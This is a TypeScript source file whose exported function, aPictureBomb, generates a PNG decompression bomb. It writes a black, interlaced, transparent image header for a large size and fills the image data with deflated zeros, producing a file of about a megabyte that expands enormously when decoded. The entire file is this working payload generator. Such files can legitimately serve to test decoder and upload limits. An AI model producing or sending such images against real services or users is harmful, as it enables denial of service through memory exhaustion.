import { once } from 'node:events'
import { crc32, createDeflate } from 'node:zlib'

/** The passes of an interlaced PNG: first pixel and distance between pixels, as x, y, across, down. */
const PASSES = [
  [0, 0, 8, 8],
  [4, 0, 8, 8],
  [0, 4, 4, 8],
  [2, 0, 4, 4],
  [0, 2, 2, 4],
  [1, 0, 2, 2],
  [0, 1, 1, 2],
] as const

function chunk(type: string, data: Buffer): Buffer {
  const typed = Buffer.concat([Buffer.from(type, 'latin1'), data])
  const [length, checksum] = [Buffer.alloc(4), Buffer.alloc(4)]
  length.writeUInt32BE(data.length)
  checksum.writeUInt32BE(crc32(typed))
  return Buffer.concat([length, typed, checksum])
}

/** So many zeros, deflated without holding them in memory. */
async function deflatedZeros(bytes: number): Promise<Buffer> {
  const deflate = createDeflate({ level: 1 })
  const parts: Buffer[] = []
  deflate.on('data', (part: Buffer) => parts.push(part))
  const ended = once(deflate, 'end')
  const zeros = Buffer.alloc(1 << 20)
  for (let left = bytes; left > 0; left -= zeros.length)
    if (!deflate.write(zeros.subarray(0, Math.min(left, zeros.length)))) await once(deflate, 'drain')
  deflate.end()
  await ended
  return Buffer.concat(parts)
}

/**
 * A black, interlaced PNG with transparency: a file of about a megabyte that needs many times as much when it
 * is opened.
 * @param size pixels of a side.
 * @param depth bits of each of a pixel's four values.
 */
export async function aPictureBomb(size: number, depth: 8 | 16 = 8): Promise<Buffer> {
  const pixel = (4 * depth) / 8
  const bytes = PASSES.map(([x, y, across, down]) => {
    const [columns, rows] = [Math.ceil((size - x) / across), Math.ceil((size - y) / down)]
    return rows * (1 + columns * pixel)
  }).reduce((sum, pass) => sum + pass)
  const head = Buffer.alloc(13)
  head.writeUInt32BE(size, 0)
  head.writeUInt32BE(size, 4)
  head.set([depth, 6, 0, 0, 1], 8)
  return Buffer.concat([
    Buffer.from('89504e470d0a1a0a', 'hex'),
    chunk('IHDR', head),
    chunk('IDAT', await deflatedZeros(bytes)),
    chunk('IEND', Buffer.alloc(0)),
  ])
}
